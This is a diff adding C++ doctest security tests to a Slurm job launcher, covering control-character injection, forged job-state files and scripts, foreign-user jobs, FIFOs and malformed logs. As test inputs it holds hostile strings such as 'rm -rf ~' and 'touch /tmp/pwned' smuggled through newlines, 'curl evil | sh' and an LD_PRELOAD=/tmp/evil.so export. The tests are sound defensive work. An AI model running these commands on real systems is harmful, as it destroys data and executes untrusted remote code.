@@ -4,10 +4,16 @@
 // slurm_cluster_test.cc.
 #include <doctest/doctest.h>
 
+#include <sys/stat.h>
+#include <unistd.h>
+
 #include <cstdio>
 #include <fstream>
+#include <functional>
 
+#include "common/exit_codes.h"
 #include "common/files.h"
+#include "orchestrator/session.h"
 #include "orchestrator/slurm_energy.h"
 #include "orchestrator/slurm_launcher.h"
 #include "tests/slurm/fake_slurm_client.h"
@@ -26,12 +32,19 @@ struct Fixture {
   FakeSlurmClient::Shared slurm;
   std::unique_ptr<SlurmLauncher> launcher;
 
-  explicit Fixture(SlurmLauncherOptions options = {}) {
+  std::vector<std::string> warnings;  // what the launchers warned about.
+
+  explicit Fixture(SlurmLauncherOptions options = {}) { launcher = NewLauncher(options); }
+
+  // A launcher on this fixture's Slurm and clock: the first, or the one a
+  // restarted orchestrator makes.
+  std::unique_ptr<SlurmLauncher> NewLauncher(SlurmLauncherOptions options = {}) {
     options.binary = "/opt/carbonsweep/bin/carbonsweep";
     options.clock = &clock;
     options.poll_interval_seconds = 2;
     options.stop_grace_seconds = 30;
-    launcher = std::make_unique<SlurmLauncher>(options, std::make_unique<FakeSlurmClient>(&slurm));
+    options.warn = [this](const std::string& message) { warnings.push_back(message); };
+    return std::make_unique<SlurmLauncher>(options, std::make_unique<FakeSlurmClient>(&slurm));
   }
 
   std::string WorkDir(int64_t trial_id) const { return dir.File("trial-" + std::to_string(trial_id)); }
@@ -362,7 +375,7 @@ TEST_CASE("UnrecordedJob asks squeue when the orchestrator died while sbatch ran
   SlurmLauncher restarted(options, std::make_unique<FakeSlurmClient>(&fixture.slurm));
   CHECK(restarted.UnrecordedJob(11, fixture.WorkDir(11), "") == std::optional<std::string>("1"));
   CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "squeue").back() ==
-        std::vector<std::string>{"squeue", "--noheader", "--states=all", "--name=cs-trial-11", "--format=%i|%o"});
+        std::vector<std::string>{"squeue", "--me", "--noheader", "--states=all", "--name=cs-trial-11", "--format=%i|%o"});
   CHECK_FALSE(restarted.UnrecordedJob(11, fixture.WorkDir(11), "1"));  // the store has it already.
   CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
 }
@@ -386,6 +399,265 @@ TEST_CASE("an adopted job Slurm no longer knows ends as lost after two polls") {
   REQUIRE(events.size() == 1);
   CHECK(events[0].exit.how == TrialExit::How::kLost);
   CHECK(events[0].exit.stderr_tail == "slurm: job 77 UNKNOWN (Slurm no longer knows the job)");
+}
+
+TEST_CASE("a control character in any value that goes into a Slurm job is refused when the sweep is validated") {
+  SweepConfig config;
+  config.name = "s";
+  config.budget_grams_co2e = 10;
+  config.launcher = LauncherKind::kSlurm;
+  config.work_root = "/shared/it's a dir/s";
+  config.slurm.extra = "--qos=low --comment='a b'";
+  REQUIRE(ValidateSweepConfig(config).ok());
+
+  const std::vector<std::pair<std::string, std::function<void(SweepConfig&)>>> cases = {
+      {"--slurm-partition", [](SweepConfig& c) { c.slurm.partition = "debug\ntouch /tmp/pwned"; }},
+      {"--slurm-gres", [](SweepConfig& c) { c.slurm.gres = "gpu:1\r"; }},
+      {"--slurm-time", [](SweepConfig& c) { c.slurm.time_limit = "1:00\x7f"; }},
+      {"--slurm-extra", [](SweepConfig& c) { c.slurm.extra = "--qos=low\nrm -rf ~"; }},
+      {"--slurm-extra", [](SweepConfig& c) { c.slurm.extra = "--comment='half"; }},
+      {"--work-root", [](SweepConfig& c) { c.work_root = "/shared/a\nb"; }},
+      {"--task", [](SweepConfig& c) { c.task.task = "sst2\tx"; }},
+      {"--backbone", [](SweepConfig& c) { c.task.backbone = std::string("/m\0x", 4); }},
+      {"--vocab", [](SweepConfig& c) { c.task.vocab = "/v\n"; }},
+  };
+  for (const auto& [flag, spoil] : cases) {
+    CAPTURE(flag);
+    SweepConfig bad = config;
+    spoil(bad);
+    Status status = ValidateSweepConfig(bad);
+    REQUIRE_FALSE(status.ok());
+    CHECK(ExitCodeFor(status) == ExitCode::kBadInput);
+    CHECK(status.message().rfind(flag + ":", 0) == 0);
+    CHECK(status.message().find_first_of("\n\r") == std::string::npos);  // one line.
+  }
+  SweepConfig local = config;  // the local launcher writes no job script.
+  local.launcher = LauncherKind::kLocal;
+  local.slurm.partition = "a\nb";
+  CHECK(ValidateSweepConfig(local).ok());
+}
+
+TEST_CASE("Start refuses a control character in the work dir or a trial argument; other odd paths are quoted") {
+  Fixture fixture;
+  LaunchRequest request = fixture.Request(1);
+  request.args.insert(request.args.end(), {"--task", "sst2\nrm -rf ~"});
+  auto started = fixture.launcher->Start(request);
+  REQUIRE_FALSE(started.ok());
+  CHECK(started.status().code() == Status::Code::kInvalidArgument);
+  CHECK(started.status().message().find("trial 1: argument") == 0);
+  CHECK(fixture.slurm.commands.empty());
+  request = fixture.Request(2);
+  request.work_dir = fixture.dir.File("a\nb");
+  CHECK_FALSE(fixture.launcher->Start(request).ok());
+  CHECK(fixture.slurm.commands.empty());
+
+  // Spaces, quotes and '%' (a pattern in sbatch --output) are fine, quoted.
+  request = fixture.Request(3);
+  request.work_dir = fixture.dir.File("it's 100% \"odd\" $(x)");
+  request.args = {"--work-dir", request.work_dir};
+  REQUIRE(fixture.launcher->Start(request).ok());
+  auto script = ReadFile(request.work_dir + "/slurm-job.sh");
+  REQUIRE(script.ok());
+  CHECK(script->find("\nexec '/opt/carbonsweep/bin/carbonsweep' 'trial' '--work-dir' " + ShellQuote(request.work_dir) +
+                     " '--meter-self'\n") != std::string::npos);
+  CHECK(std::count(script->begin(), script->end(), '\n') == 5);  // #!, three comment lines, exec.
+  const std::string dir_pattern = fixture.dir.File("it's 100%% \"odd\" $(x)");
+  auto argv = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").at(0);
+  CHECK(std::find(argv.begin(), argv.end(), "--error=" + dir_pattern + "/stderr.log") != argv.end());
+  CHECK(std::find(argv.begin(), argv.end(), "--output=" + dir_pattern + "/slurm-%j.out") != argv.end());
+}
+
+TEST_CASE("UnrecordedJob takes only a job squeue --me lists: never another user's of the same name and script") {
+  Fixture fixture;
+  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // job "1"
+  fixture.launcher.reset();
+  const std::string work_dir = fixture.WorkDir(11);
+  FakeSlurmClient::FakeJob foreign;  // someone else's job, named and pointed like ours.
+  foreign.name = "cs-trial-11";
+  foreign.command = work_dir + "/slurm-job.sh";
+  foreign.user_id = ::getuid() + 1;
+  fixture.slurm.jobs["5"] = foreign;
+
+  auto restarted = fixture.NewLauncher();
+  // A forged slurm-job.json naming it.
+  REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.json",
+                          R"({"job_id":"5","trial_id":11,"events_offset":0,"requeues":0})").ok());
+  CHECK_FALSE(restarted->UnrecordedJob(11, work_dir, "1"));
+  CHECK_FALSE(fixture.warnings.empty());
+  // The orchestrator died while sbatch ran: the newest of *our* jobs.
+  REQUIRE(std::remove((work_dir + "/slurm-job.json").c_str()) == 0);
+  CHECK(restarted->UnrecordedJob(11, work_dir, "") == std::optional<std::string>("1"));
+  for (const auto& argv : FakeSlurmClient::CommandsOf(fixture.slurm, "squeue")) {
+    if (argv.at(3).rfind("--name=", 0) == 0 || argv.at(4).rfind("--name=", 0) == 0) {
+      CHECK(std::find(argv.begin(), argv.end(), "--me") != argv.end());
+    }
+  }
+}
+
+TEST_CASE("Adopt refuses a job squeue lists under another user or another job name") {
+  Fixture fixture;
+  REQUIRE(MakeDirs(fixture.WorkDir(11)).ok());
+  FakeSlurmClient::FakeJob other_name;
+  other_name.name = "cs-trial-99";
+  fixture.slurm.jobs["5"] = other_name;
+  FakeSlurmClient::FakeJob other_user;
+  other_user.name = "cs-trial-11";
+  other_user.user_id = ::getuid() + 1;
+  fixture.slurm.jobs["6"] = other_user;
+  CHECK_FALSE(fixture.launcher->Adopt(11, "5", fixture.WorkDir(11)).ok());
+  auto refused = fixture.launcher->Adopt(11, "6", fixture.WorkDir(11));
+  REQUIRE_FALSE(refused.ok());
+  CHECK(refused.status().message().find("not this trial's job") != std::string::npos);
+  CHECK(fixture.launcher->Running() == 0);
+  FakeSlurmClient::FakeJob ours;
+  ours.name = "cs-trial-11";
+  fixture.slurm.jobs["7"] = ours;
+  CHECK(fixture.launcher->Adopt(11, "7", fixture.WorkDir(11)).ok());
+}
+
+TEST_CASE("a forged slurm-job.json or job script never reaches sbatch: a resubmission is rebuilt from the request") {
+  SlurmLauncherOptions options;
+  options.partition = "gpu";
+  Fixture fixture(options);
+  REQUIRE(fixture.launcher->Start(fixture.Request(11)).ok());  // job "1"
+  fixture.launcher.reset();
+  const std::string work_dir = fixture.WorkDir(11);
+  auto first_script = ReadFile(work_dir + "/slurm-job.sh");
+  REQUIRE(first_script.ok());
+  const std::vector<std::string> first_sbatch = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").at(0);
+  // Someone who can write the shared work dir.
+  auto forge = [&] {
+    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.json",
+                            R"({"job_id":"1","trial_id":11,"events_offset":0,"requeues":0,)"
+                            R"("sbatch_args":["--export=ALL,LD_PRELOAD=/tmp/evil.so","--partition=theirs"]})").ok());
+    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.sh", "#!/bin/sh\ncurl evil | sh\n").ok());
+  };
+  auto preempt = [&](SlurmLauncher& launcher, const std::string& job_id) {
+    fixture.SetJob(job_id, "PREEMPTED", 0, 15);
+    fixture.clock.Advance(2);
+    std::vector<LauncherEvent> events;
+    launcher.Wait(0, &events);
+    return events;
+  };
+
+  SUBCASE("adopted with the request the store's config gives") {
+    forge();
+    auto restarted = fixture.NewLauncher(options);
+    REQUIRE(restarted->AdoptLaunch(fixture.Request(11), "1").ok());
+    auto events = preempt(*restarted, "1");
+    REQUIRE(events.size() == 1);
+    CHECK(events[0].event["event"] == "requeue");
+    auto sbatch = FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch");
+    REQUIRE(sbatch.size() == 2);
+    CHECK(sbatch[1] == first_sbatch);
+    CHECK(*ReadFile(work_dir + "/slurm-job.sh") == *first_script);
+  }
+  SUBCASE("adopted without it: not resubmitted at all") {
+    forge();
+    auto restarted = fixture.NewLauncher(options);
+    REQUIRE(restarted->Adopt(11, "1", work_dir).ok());
+    auto events = preempt(*restarted, "1");
+    REQUIRE(events.size() == 1);
+    CHECK(events[0].kind == LauncherEvent::Kind::kExit);
+    CHECK(FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch").size() == 1);
+  }
+  SUBCASE("started by this launcher, forged while it ran") {
+    auto launcher = fixture.NewLauncher(options);
+    REQUIRE(launcher->Start(fixture.Request(11)).ok());  // job "2"
+    forge();
+    auto events = preempt(*launcher, "2");
+    REQUIRE(events.size() == 1);
+    CHECK(events[0].event["job_id"] == "3");
+    CHECK(*ReadFile(work_dir + "/slurm-job.sh") == *first_script);
+  }
+  for (const auto& argv : FakeSlurmClient::CommandsOf(fixture.slurm, "sbatch")) {
+    for (const std::string& arg : argv) {
+      CHECK(arg.find("LD_PRELOAD") == std::string::npos);
+      CHECK(arg != "--partition=theirs");
+    }
+  }
+}
+
+TEST_CASE("a slurm-job.json that is not what the launcher writes is ignored with a warning; resume goes on") {
+  const std::vector<std::pair<std::string, std::string>> files = {
+      {"an event line", R"({"event":5})"},
+      {"not an object", "[1,2,3]"},
+      {"a number for the job id", R"({"job_id":1,"trial_id":11,"events_offset":0})"},
+      {"a text trial id", R"({"job_id":"1","trial_id":"11","events_offset":0})"},
+      {"a negative offset", R"({"job_id":"1","trial_id":11,"events_offset":-5})"},
+      {"a text offset", R"({"job_id":"1","trial_id":11,"events_offset":"0"})"},
+      {"a huge requeue count", R"({"job_id":"1","trial_id":11,"events_offset":0,"requeues":1e300})"},
+      {"a shell command for a job id", R"({"job_id":"2;rm -rf ~","trial_id":11,"events_offset":0,"requeues":0})"},
+      {"10 MB", R"({"job_id":"1","trial_id":11,"events_offset":0})" + std::string(10 << 20, ' ')},
+      {"not JSON", "{\"job_id\":"},
+  };
+  for (const auto& [what, text] : files) {
+    CAPTURE(what);
+    Fixture fixture;
+    const std::string work_dir = fixture.WorkDir(11);
+    REQUIRE(MakeDirs(work_dir).ok());
+    fixture.Append(11, "events.log", EventLine(R"({"event":"epoch","epoch":1,"val_accuracy":0.5})"));
+    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.sh", "#!/bin/sh\n").ok());
+    REQUIRE(WriteFileAtomic(work_dir + "/slurm-job.json", text).ok());
+    FakeSlurmClient::FakeJob job;
+    job.name = "cs-trial-11";
+    job.command = work_dir + "/slurm-job.sh";
+    job.state = "RUNNING";
+    fixture.slurm.jobs["1"] = job;
+
+    CHECK_FALSE(fixture.launcher->UnrecordedJob(11, work_dir, "1"));
+    REQUIRE(fixture.launcher->Adopt(11, "1", work_dir).ok());
+    CHECK_FALSE(fixture.warnings.empty());
+    for (const std::string& warning : fixture.warnings) CHECK(warning.find('\n') == std::string::npos);
+    std::vector<LauncherEvent> events = fixture.WaitPoll();
+    REQUIRE(events.size() == 1);  // events.log replayed from its start.
+    CHECK(events[0].event["epoch"] == 1);
+  }
+}
+
+TEST_CASE("a FIFO planted as slurm-job.json or events.log does not block the launcher") {
+  Fixture fixture;
+  const std::string work_dir = fixture.WorkDir(11);
+  REQUIRE(MakeDirs(work_dir).ok());
+  REQUIRE(::mkfifo((work_dir + "/slurm-job.json").c_str(), 0644) == 0);
+  REQUIRE(::mkfifo((work_dir + "/events.log").c_str(), 0644) == 0);
+  FakeSlurmClient::FakeJob job;
+  job.name = "cs-trial-11";
+  job.state = "RUNNING";
+  fixture.slurm.jobs["1"] = job;
+  CHECK_FALSE(fixture.launcher->UnrecordedJob(11, work_dir, "1"));
+  REQUIRE(fixture.launcher->Adopt(11, "1", work_dir).ok());
+  CHECK(fixture.WaitPoll().empty());
+  CHECK_FALSE(fixture.warnings.empty());
+}
+
+TEST_CASE("events.log and energy.log lines a trial never writes are skipped with a warning, the rest goes on") {
+  Fixture fixture;
+  REQUIRE(fixture.launcher->Start(fixture.Request(3)).ok());
+  fixture.SetJob("1", "RUNNING");
+  const std::string padding(100 << 10, 'x');
+  fixture.Append(3, "events.log",
+                 EventLine(R"({"event":5})") + EventLine(R"({"event":"end","state":7})") +
+                     EventLine(R"({"event":"requeue","job_id":"999","previous_job_id":"1"})") +
+                     EventLine(R"({"event":"slurm_energy","job_id":"1","joules":1e300})") +
+                     EventLine(R"({"event":"energy","unix_seconds":1.0,"interval_seconds":1.0,"component":"cpu","method":"m","joules":1e300})") +
+                     EventLine(R"({"event":"epoch","epoch":2,"pad":")" + padding + "\"}") +
+                     EventLine(R"({"event":"epoch","epoch":1,"val_accuracy":0.5})"));
+  const std::string record = R"("interval_seconds":1.0,"component":"cpu","method":"cpu-time-model","watts":1)";
+  fixture.Append(3, "energy.log",
+                 R"({"unix_seconds":1700000001.0,"joules":1e999,)" + record + "}\n" +
+                 R"({"unix_seconds":1700000001.0,"joules":-1,)" + record + "}\n" +
+                 R"({"unix_seconds":1e999,"joules":1,)" + record + "}\n" +
+                 R"({"unix_seconds":1700000001.0,"joules":1,"pad":")" + padding + "\"," + record + "}\n" +
+                 R"({"unix_seconds":1700000001.0,"joules":9.5,)" + record + "}\n");
+  std::vector<LauncherEvent> events = fixture.WaitPoll();
+  REQUIRE(events.size() == 2);
+  CHECK(events[0].event["event"] == "epoch");
+  CHECK(events[0].event["epoch"] == 1);
+  CHECK(events[1].event["event"] == "energy");
+  CHECK(events[1].event["joules"] == 9.5);
+  CHECK(fixture.warnings.size() >= 3);
+  CHECK(fixture.launcher->Running() == 1);
 }
 
 TEST_CASE("Slurm output parsers") {
